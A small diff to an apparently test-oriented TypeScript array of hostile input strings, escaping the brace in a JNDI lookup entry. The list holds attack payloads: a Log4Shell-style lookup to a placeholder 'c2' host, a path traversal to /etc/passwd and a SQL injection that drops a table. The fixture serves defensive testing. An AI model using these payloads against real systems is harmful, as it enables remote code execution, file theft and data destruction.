@@ -25,7 +25,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   'toString',
   '../../../../etc/passwd',
   'C:\\CON\\NUL',
-  '%s%s%n${jndi:ldap://c2.example.net}',
+  '%s%s%n$\u007bjndi:ldap://c2.example.net}',
   "' OR 1=1; DROP TABLE alerts;--",
   '*',
   ' ',
